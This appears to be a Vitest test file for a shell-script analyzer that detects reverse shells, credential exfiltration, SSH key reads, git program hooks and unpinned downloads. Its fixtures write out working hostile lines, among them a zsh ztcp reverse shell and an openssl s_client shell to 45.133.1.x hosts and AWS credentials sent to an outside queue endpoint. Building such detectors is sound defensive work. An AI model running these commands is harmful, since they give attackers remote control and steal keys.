import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Channels and values of round 21's shapes, in our own words: zsh's `ztcp` socket (a line read from it and
 * evaluated is a reverse shell), AWS CLI message commands whose endpoint is another server, a suffix removed
 * from a path known only in part (`${pub%.pub}` of `$HOME/.ssh/id_ed25519.pub` is the private key), and the
 * git setting that names the program git runs to pick an SSH signing key.
 */

describe('zsh ztcp', () => {
  it('a line read from the socket and evaluated is a reverse shell; a listener is none', async () => {
    const shell = await factsOf(
      'shell',
      'zmodload zsh/net/tcp\nztcp 45.133.1.9 7000 || exit\nlocal conn=$REPLY cmd\nwhile read -r -u $conn cmd; do eval "$cmd"; done\n',
    );
    expect(ofKind(shell, 'reverse-shell').map((r) => r.endpoint.host)).toEqual(['45.133.1.9']);
    const listener = await factsOf('shell', 'ztcp -l 7000\nfd=$REPLY\nread -r -u $fd cmd\neval "$cmd"\n');
    expect(ofKind(listener, 'reverse-shell')).toEqual([]);
  });
});

describe('AWS CLI messages', () => {
  it('sends the message body to the endpoint it names, not to AWS when none is named', async () => {
    const r = await factsOf(
      'shell',
      'c=$(aws configure export-credentials --format process)\naws sqs send-message --endpoint-url http://45.133.1.10:9324 --queue-url x --message-body "$c"\n' +
        'aws sns publish --topic-arn arn:aws:sns:us-east-1:1:t --message "$c"\n',
    );
    const sends = ofKind(r, 'send');
    expect(sends.map((s) => s.endpoint.host)).toEqual(['45.133.1.10']);
    expect(sends[0]!.data.taints).toContain('secret');
  });
});

describe('a suffix removed from a path known in part', () => {
  it('reads the private key beside the public one', async () => {
    const r = await factsOf('shell', 'pub="$HOME/.ssh/id_ed25519.pub"\npriv=${pub%.pub}\ncat "$priv"\n');
    expect(ofKind(r, 'read').map((x) => x.secret)).toEqual(['ssh-key']);
    const glob = await factsOf('shell', 'pub="$HOME/.ssh/id_ed25519.pub"\npriv=${pub%.*}\ncat "$priv"\n');
    expect(ofKind(glob, 'read')).toEqual([]);
  });
});

describe('git signing-key command', () => {
  it('is a program git runs on every signed commit', async () => {
    const r = await factsOf(
      'shell',
      'git config --global gpg.ssh.defaultKeyCommand "$HOME/.local/bin/pick-key"\n',
    );
    expect(ofKind(r, 'config').map((c) => c.setting)).toEqual(['git-program']);
  });
});

describe('downloads checked against a digest the script pins', () => {
  const fetch =
    'set -euo pipefail\ntmp=$(mktemp -d)\ncurl -fsSL -o "$tmp/tool.zip" https://github.com/acme/tool/releases/download/v1.2.0/tool.zip\n';
  const run = 'unzip -q "$tmp/tool.zip" -d .tools\n.tools/bin/tool --version\n';
  const pinnedRuns = async (check: string) =>
    ofKind(await factsOf('shell', fetch + check + run), 'execute')
      .filter((e) => e.code.taints.includes('download'))
      .map((e) => e.pinned === true);

  it('pins what sha256sum -c checks with a digest written in the script, in GNU or BSD form', async () => {
    const hash = 'a'.repeat(64);
    expect(await pinnedRuns(`sum=${hash}\necho "$sum  $tmp/tool.zip" | sha256sum -c -\n`)).toEqual([true]);
    expect(
      await pinnedRuns(`printf 'SHA256 (%s) = ${hash}\\n' "$tmp/tool.zip" | shasum -a 256 -c\n`),
    ).toEqual([true]);
  });

  it('pins nothing with a digest fetched beside the download, or with no check at all', async () => {
    expect(
      await pinnedRuns(
        'curl -fsSL https://github.com/acme/tool/releases/download/v1.2.0/tool.zip.sha256 | sha256sum -c -\n',
      ),
    ).toEqual([false]);
    expect(await pinnedRuns('sha256sum "$tmp/tool.zip"\n')).toEqual([false]);
  });
});

describe('openssl in a pipeline with a shell', () => {
  it('is a remote shell only as s_client, not when it decrypts local bytes', async () => {
    const local = await factsOf(
      'shell',
      'printf %s "$blob" | openssl enc -d -aes-256-cbc -a -pass pass:k | sh\n',
    );
    expect(ofKind(local, 'reverse-shell')).toEqual([]);
    const remote = await factsOf('shell', 'sh -i 2>&1 | openssl s_client -quiet -connect 45.133.1.3:443\n');
    expect(ofKind(remote, 'reverse-shell').length).toBeGreaterThan(0);
  });
});
